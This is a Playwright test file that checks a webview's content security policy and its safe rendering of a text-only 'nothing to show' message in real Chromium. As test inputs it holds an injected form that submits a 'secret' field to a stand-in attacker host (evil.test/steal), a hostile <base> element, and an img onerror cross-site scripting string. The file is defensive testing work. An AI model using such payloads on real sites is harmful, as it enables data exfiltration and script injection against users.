// The webview page's defence in depth in real Chromium: its CSP blocks a
// form submission and a <base> element (form-action and base-uri do not fall
// back to default-src), and the "nothing to show" message of a restored
// panel with no valid roadmap is shown as text and forgets the saved URI.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { defaultPreviewState } from '../../server/src/shared/preview-protocol';
import { VIEW_NAMES } from '../../server/src/core/views/registry';
import { launch, openWebview, ROOT, skipReason, viewsOf } from './harness';

const skip = skipReason();
const EVIL = 'http://evil.test';

/** Records CSP violations as "directive blocked-URI" (a string: tsx would wrap a function with helpers the page lacks). */
const RECORD_CSP = `(() => {
  window.__csp = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
})()`;
const violations = (page: Page, directive: string) =>
  page.waitForFunction((d) => (window as unknown as { __csp: string[] }).__csp.some((v) => v.startsWith(d)), directive);

describe('webview defence in depth', { skip }, () => {
  let browser: Browser;
  before(async () => {
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
  });

  test('a form submission is blocked by form-action: no request, no navigation', async () => {
    const w = await openWebview(browser);
    await w.page.evaluate(RECORD_CSP);
    const start = w.page.url();
    const left = w.page.waitForEvent('request', (r) => r.url().startsWith(EVIL)).then((r) => `request ${r.url()}`);
    const blocked = violations(w.page, 'form-action').then(() => 'blocked');
    await w.page.evaluate(`(() => {
      const form = document.createElement('form');
      form.action = '${EVIL}/steal';
      form.method = 'get';
      const input = document.createElement('input');
      input.name = 'secret';
      input.value = 'x';
      form.append(input);
      document.body.append(form);
      form.requestSubmit();
    })()`);
    assert.equal(await Promise.race([left, blocked]), 'blocked');
    assert.equal(w.page.url(), start, 'the page did not navigate');
    assert.deepEqual(w.watch.leaks, []);
    await w.page.close();
  });

  test('a <base> element is refused by base-uri: relative URLs stay the page’s', async () => {
    const w = await openWebview(browser);
    await w.page.evaluate(RECORD_CSP);
    const base = await w.page.evaluate(`(() => {
      const b = document.createElement('base');
      b.href = '${EVIL}/';
      document.head.prepend(b);
      return document.baseURI;
    })()`);
    assert.ok(String(base).startsWith('http://airoadmap.test/'), `base URI: ${String(base)}`);
    await violations(w.page, 'base-uri');
    await w.page.close();
  });

  test('"nothing to show": every panel says so as text, the saved URI is forgotten, a later update still renders', async () => {
    const w = await openWebview(browser, { state: { ...defaultPreviewState('command:workbench.action.terminal.new'), view: 'risks' } });
    const text = 'Nothing to preview. <img src=x onerror="window.__pwned=1"> Open a roadmap.';
    await w.post({ type: 'nothing', text });
    const panels = await w.page.evaluate(() => Array.from(document.querySelectorAll('[role=tabpanel]'), (p) => [p.textContent, p.querySelectorAll('*').length]));
    assert.equal(panels.length, VIEW_NAMES.length);
    for (const [shown, elements] of panels) {
      assert.equal(shown, text);
      assert.equal(elements, 1, 'one paragraph, no element from the text');
    }
    assert.equal(await w.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
    await w.page.evaluate(() => new Promise((r) => requestAnimationFrame(() => r(null))));
    const saved = (await w.state()) as { uri: unknown; view: unknown };
    assert.equal(saved.uri, null, 'the saved URI is forgotten');
    assert.equal(saved.view, 'risks', 'the chosen tab stays');

    const example = readFileSync(path.join(ROOT, 'examples/nordlys.airoadmap.yaml'), 'utf8');
    await w.post({ type: 'update', uri: 'file:///roadmap.airoadmap.yaml', version: 1, hasErrors: false, views: viewsOf(example) });
    assert.ok((await w.page.locator('.risk-entry').count()) > 0, 'the risks are drawn');
    assert.deepEqual(w.watch.consoleErrors, []);
    await w.page.close();
  });
});
